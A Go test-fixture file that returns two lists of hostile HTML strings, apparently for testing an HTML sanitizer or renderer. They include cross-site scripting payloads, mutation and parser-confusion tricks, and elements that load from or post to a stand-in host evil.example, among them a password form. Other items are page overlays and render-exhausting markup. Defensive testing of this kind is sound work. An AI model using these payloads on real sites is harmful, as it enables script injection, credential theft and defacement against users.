package testenv

import "strings"

// HostileHTML returns pieces of HTML that run a script or break out of their place on a page that shows them unchanged or
// after careless cleaning, including pieces that parse differently the second time.
func HostileHTML() []string {
	return []string{
		`<script>alert(1)</script>`, `<SCRIPT SRC="//evil.example/x.js"></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
		`<img src=x onerror=alert(1)>`, `<img src=x onerror=alert(1)//`, `<img/src=x/onerror=alert(1)>`, "<img src=`x`onerror=alert(1)>",
		`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
		`<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>`, `<svg><set attributeName=href to=javascript:alert(1)>`,
		`<body onload=alert(1)>`, `<input autofocus onfocus=alert(1)>`, `<details open ontoggle=alert(1)>x</details>`,
		`<video><source onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)>`, `<marquee onstart=alert(1)>x</marquee>`,
		`<a href="javascript:alert(1)">x</a>`, `<a href=" &#x6a;avascript:alert(1)">x</a>`, "<a href=\"java\tscript:alert(1)\">x</a>",
		"<a href=\"\x01javascript:alert(1)\">x</a>", `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="vbscript:x">x</a>`,
		`<form action="javascript:alert(1)"><button>x</button></form>`, `<button formaction="javascript:alert(1)">x</button>`,
		`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
		`<object data="javascript:alert(1)"></object>`, `<embed src="javascript:alert(1)">`, `<base href="https://evil.example/">`,
		`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`, `<link rel=stylesheet href="//evil.example/x.css">`,
		`<style>@import url(//evil.example/x.css);body{display:none}</style>`, `<p style="background:url(//evil.example/x.png)">x</p>`,
		`<div style="position:fixed;inset:0;z-index:9">over all</div>`, `<math href="javascript:alert(1)">x</math>`,
		`<p></div></div></div></body></html><script>alert(1)</script>`, `</title></textarea></style></script><img src=x onerror=alert(1)>`,
		`<table><tr><td></table></div></div><img src=x onerror=alert(1)>`, `<!--><img src=x onerror=alert(1)>-->`,
		`<!--!><img src=x onerror=alert(1)>-->`, `<![CDATA[<img src=x onerror=alert(1)>]]>`, `<?xml version="1.0"?><img src=x onerror=alert(1)>`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, `<textarea><img title="</textarea><img src=x onerror=alert(1)>">`,
		`<title><a title="</title><img src=x onerror=alert(1)>">`, `<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
		`<noembed><a title="</noembed><img src=x onerror=alert(1)>">`, `<plaintext><img src=x onerror=alert(1)>`,
		`<svg></p><style><a id="</style><img src=x onerror=alert(1)>">`, `<svg><style><img src=x onerror=alert(1)></style></svg>`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">`,
		`<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>`,
		`<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=alert(1)>">`,
		`<svg><foreignobject><p><style><img src="</style><img src=x onerror=alert(1)>"></p></foreignobject></svg>`,
		`<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=alert(1)>"></annotation-xml></math>`,
		`<select><style></select><img src=x onerror=alert(1)></style>`, `<template><img src=x onerror=alert(1)></template>`,
		`<img srcset="x 1x, //evil.example/y.png 2x" alt="<script>alert(1)</script>">`, `<img alt="x` + "\x00" + `"><img src=x onerror=alert(1)>`,
		`&lt;img src=x onerror=alert(1)&gt;`, `<p title='&quot;&gt;&lt;img src=x onerror=alert(1)&gt;'>x</p>`, `<p class="</p><script>alert(1)</script>">x</p>`,
		`<a href="https://e.example/&quot; onclick=alert(1) x=&quot;">x</a>`, `<blockquote cite="javascript:alert(1)">x</blockquote>`,
		`<div id=ran>x</div><a id=out href=x>clobber</a><form id=document></form>`, `<b><i><p></b></i><script>alert(1)</script></p>`,
	}
}

// GreedyHTML returns pieces of HTML that, shown unchanged, contact other servers, cover the page around them, or are
// expensive to render.
func GreedyHTML() []string {
	return []string{
		`</template><img src=x onerror=alert(1)>`, `<template data-swap="main"><img src=x onerror=alert(1)></template>`, `<div id=toast data-swap=main>x</div><ol id=thread></ol>`,
		`</style><script>alert(1)</script>`, `<p style="color:red}</style><script>alert(1)</script>">x</p>`, `<p style="font-family:'</style><img src=x onerror=alert(1)>'">x</p>`,
		`<table width="600"><tr><td style="background:url(&quot;//evil.example/x.png&quot;);width:expression(alert(1));behavior:url(x)">x</td></tr></table>`,
		`<table background="//evil.example/x.png"><tr background="//evil.example/y.png"><td background="//evil.example/z.png">x</td></tr></table>`,
		`<style>@font-face{font-family:x;src:url(//evil.example/x.woff)}*{font-family:x;position:fixed;inset:0}</style>`, `<link rel="dns-prefetch preconnect prefetch" href="//evil.example/">`,
		`<p style="list-style-image:url(//evil.example/x.png);cursor:url(//evil.example/y.cur),auto;content:url(//evil.example/z)">x</p>`,
		`<p style="background-image:\75\72\6c(//evil.example/x.png);background:image-set('//evil.example/y.png' 1x)">x</p>`,
		`<picture><source srcset="//evil.example/x.png"><img src="//evil.example/y.png"></picture>`, `<video poster="//evil.example/x.png" src="//evil.example/x.mp4" autoplay></video>`,
		`<svg><image href="//evil.example/x.png"/><use href="//evil.example/x.svg#x"/></svg>`, `<input type=image src="//evil.example/x.png">`, `<img src="//evil.example/x.png" loading=eager>`,
		`<a href="https://e.example" ping="//evil.example/" target=_top>x</a>`, `<a href="https://e.example" target=_parent download=x.exe>x</a>`, `<a href="/desk/sign-out">x</a><img src="/desk/sign-out">`,
		`<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">`, `<iframe src="data:text/html,<script>alert(1)</script>"></iframe>`,
		`<meta http-equiv="refresh" content="0;url=//evil.example/">`, `<meta http-equiv="Content-Security-Policy" content="default-src *">`, `<meta name=referrer content=unsafe-url>`,
		`<base target="_top"><base href="//evil.example/"><a href="x">x</a>`, `<form action="//evil.example/" method=post><input name=password autofocus><input type=submit></form><button form=composer>x</button>`,
		`<dialog open>x</dialog><div popover id=p>x</div><button popovertarget=p>x</button>`, `<marquee width=9999 height=9999 scrollamount=999>x</marquee>`,
		`<div style="position:absolute;top:-500px;left:-500px;width:5000px;height:5000px;background:red">over all</div>`, `<div style="margin:-900px;padding:900px;transform:scale(99);float:left">over all</div>`,
		`<table width="99999" height="99999" border=9999 cellpadding=999 bgcolor=red><tr><td nowrap>over all</td></tr></table>`, `<img src="cid:none" width=99999 height=99999 border=999 hspace=999 vspace=999>`,
		`<p style="font-size:9999px;line-height:0;letter-spacing:-99px;text-indent:-9999px;word-spacing:9999px">over all</p>`, `<font size=99>over</font><pre>` + strings.Repeat("wide ", 2000) + `</pre>`,
		`<p>` + strings.Repeat("x", 20_000) + `</p>`, `<p>` + strings.Repeat("Z\u0335\u0321\u0310\u0306\u0352\u031a", 200) + strings.Repeat("\u0e49", 500) + `</p>`, "<p>\u202e\u2066exe.fdp \u202d</p><bdo dir=rtl>rtl", "<p>a\u200b\u200d\ufeff\u00ad\u2028\u2029b</p>",
		strings.Repeat("<div>", 3000) + "deep" + strings.Repeat("</b>", 3000), strings.Repeat("<table><tr><td>", 300) + "deep", strings.Repeat("<blockquote>", 600) + "deep", strings.Repeat("<ul><li>", 300) + "deep",
		"<table>" + strings.Repeat("<tr><td>x</td></tr>", 3000), "<table><tr>" + strings.Repeat("<td width=100>x</td>", 1000), strings.Repeat("<a href=https://e.example/>", 2000), strings.Repeat("<b id=x", 2000),
		"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\x1b$B<script>alert(1)</script>\x1b(B",
	}
}
